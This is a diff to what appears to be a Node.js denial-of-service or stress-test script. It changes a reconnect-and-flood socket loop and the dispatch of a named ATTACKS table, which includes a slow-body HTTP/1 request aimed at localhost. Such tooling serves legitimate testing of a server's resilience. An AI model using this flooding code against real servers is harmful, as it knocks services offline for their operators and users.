@@ -47,16 +47,15 @@ const CALL = Buffer.concat([
 function repeat(/** @type {() => () => Buffer} */ begin) {
   const next = begin()
   const socket = connect(Number(port), hostname)
-  let isOver = false
-  const again = () => {
-    if (isOver) return
-    isOver = true
-    setTimeout(() => repeat(begin), 5)
-  }
   const write = () => {
-    while (!isOver) if (!socket.write(next())) return
+    while (!socket.destroyed && socket.write(next())) continue
   }
-  socket.on('connect', write).on('drain', write).on('error', again).on('close', again).resume()
+  socket
+    .on('connect', write)
+    .on('drain', write)
+    .on('error', () => {})
+    .on('close', () => setTimeout(() => repeat(begin), 5))
+    .resume()
 }
 
 /** Frames of one connection, in batches; each call has the next stream. */
@@ -180,4 +179,6 @@ const ATTACKS = {
   'slow bodies over HTTP/1': () => slow(2_000, `${POST}\r\nHost: localhost\r\nContent-Length: 100000\r\n\r\n`, 'x'),
 }
 
-ATTACKS[name]?.()
+const flood = ATTACKS[name]
+if (!flood) throw new Error(`No attack is named ${name}. The attacks: ${Object.keys(ATTACKS).join(', ')}`)
+flood()
